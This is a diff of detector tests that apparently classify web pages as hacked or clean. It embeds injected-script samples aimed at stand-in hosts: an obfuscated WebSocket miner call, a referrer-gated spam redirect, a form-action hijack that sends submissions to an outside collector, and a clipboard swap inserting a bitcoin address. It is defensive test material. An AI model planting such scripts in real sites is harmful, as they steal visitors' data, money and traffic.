@@ -254,3 +254,29 @@ def test_disguised_address_of_a_socket_is_one_of_another_site() -> None:
     hidden = "".join(f"\\x{ord(one):02x}" for one in "wss://pool.bad.example")
 
     assert outcome(hacked_page, f'{HEAD}<script>eval(new WebSocket("{hidden}"))</script>').state == "hacked"
+
+
+@pytest.mark.parametrize(
+    ("script", "harmless"),
+    [
+        (
+            "if(/google/.test(document.referrer))location.href='https://pillole.test/'",
+            ("https://pillole.test/", "/it/"),
+        ),
+        (
+            "f.addEventListener('submit',function(){f.action='https://zbieraj.test/g'})",
+            ("https://zbieraj.test/g", "/g"),
+        ),
+        (
+            "document.addEventListener('copy',e=>{e.clipboardData.setData('text/plain','bc1q');e.preventDefault()})",
+            ("'bc1q'", "getSelection()+'bc1q'"),
+        ),
+    ],
+)
+@pytest.mark.parametrize("text", ["Запись на курсы", "講座の申し込み", "تسجيل الدروس", "Zapisy"])
+def test_scripts_that_take_visitors_or_what_is_theirs(script: str, harmless: tuple[str, str], text: str) -> None:
+    """By where they come from, what they enter, and what they copy."""
+    page = f"<h1>{text}</h1><form action=/a method=post><input name=n></form><script>{{}}</script>"
+
+    assert outcome("hacked-page", page.format(script)).state == "hacked"
+    assert outcome("hacked-page", page.format(script.replace(*harmless))).state == "clean"
